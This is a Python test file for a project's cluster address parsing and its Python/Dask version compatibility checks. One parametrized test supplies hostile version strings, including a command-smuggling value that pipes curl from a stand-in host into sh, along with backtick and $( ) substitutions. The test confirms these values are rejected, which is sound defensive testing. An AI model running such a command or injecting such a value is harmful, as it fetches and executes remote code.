"""Addresses of processes, and versions, as text that people and Dask handle."""

from __future__ import annotations

import contextlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from servent.cluster import addresses
from servent.cluster.addresses import MOST_HINTS, Place
from servent.cluster.model import ADDRESS_LENGTH
from servent.cluster.office import versions_here
from servent.cluster.versions import Versions, doubts, unfit
from servent.codec import Decoder, canonical
from servent.errors import BadMessage, UsageError
from servent.identity import PeerId
from tests.cluster.desks import LAB

KEYS = st.binary(min_size=32, max_size=32).map(PeerId)
HINTS = st.sampled_from(["192.0.2.1:4433", "[2001:db8::1]:443", "127.0.0.1:9"])
RELAYS = st.none() | st.sampled_from(["https://relay.example/", "http://[::1]:7443/x?y=1;z,w@v"])


@given(KEYS, KEYS, st.integers(0, 65535), st.lists(HINTS, max_size=MOST_HINTS), RELAYS)
def test_what_is_written_is_read_back(
    process: PeerId, node: PeerId, listener: int, hints: list[str], relay: str | None
) -> None:
    place = Place(process, node, LAB, listener, tuple(hints), relay)
    text = str(place)
    assert len(text) <= ADDRESS_LENGTH
    assert addresses.parse(text) == place
    scheme, _, loc = text.rpartition("://")  # as Dask takes it apart
    assert scheme == "servent"
    assert addresses.parse(loc) == place


def test_a_long_relay_leaves_out_hints_and_nothing_else() -> None:
    relay = "https://" + "r" * 420 + ".example/"
    place = Place(
        PeerId(b"p" * 32), PeerId(b"n" * 32), LAB, 0, tuple(["[2001:db8:1:2:3:4:5:6]:65535"] * 6), relay
    )
    found = addresses.parse(str(place))
    assert isinstance(found, Place)
    assert found.relay == relay
    assert len(found.hints) < 6


def test_a_name_is_a_cluster() -> None:
    assert addresses.parse("servent://lab") == "lab"
    assert addresses.parse("lab-two") == "lab-two"


@given(st.text(max_size=300))
def test_any_text_is_a_place_a_name_or_an_error_of_whoever_typed_it(text: str) -> None:
    with contextlib.suppress(UsageError):
        addresses.parse(text)


def test_two_figures_of_python_and_all_of_dask_must_be_alike() -> None:
    here = Versions("3.11.2", {"dask": "2026.8.0", "distributed": "2026.8.0", "numpy": "2.1.0"})
    assert unfit(here, Versions("3.11.9", here.packages), "scheduler") is None
    why = unfit(here, Versions("3.12.1", here.packages | {"distributed": "2026.7.1"}), "scheduler")
    assert why == (
        "the scheduler has Python 3.12, distributed 2026.7.1; here it is Python 3.11, distributed 2026.8.0: "
        "run Python 3.12 and `python -m pip install 'distributed==2026.7.1'`"
    )


@pytest.mark.parametrize("said", ["1'; curl evil.example|sh; '", "1 2", "1\n", "`x`", "$(x)", "1\x1b[2J"])
def test_a_version_that_is_none_never_stands_in_a_command(said: str) -> None:
    read = Decoder[Versions](Versions)
    for wrong in (Versions(said), Versions("3.11.2", {"dask": said})):
        with pytest.raises(BadMessage):
            read.decode(canonical(wrong))
    for good in ("", "2026.8.0", "3.13.0rc1+", "1!2.0.post1+ubuntu-1_2"):
        assert read.decode(canonical(Versions(good, {"dask": good}))).python == good
    assert read.decode(canonical(versions_here())) == versions_here()


def test_another_numpy_is_said_and_not_refused() -> None:
    here = Versions("3.11.2", {"numpy": "2.1.0", "pandas": "2.0"})
    there = Versions("3.11.2", {"numpy": "1.26.4", "pandas": "2.9", "pyarrow": "1"})
    assert unfit(here, there, "worker") is None
    assert doubts(here, there) == ["numpy 1.26.4 there, 2.1.0 here"]
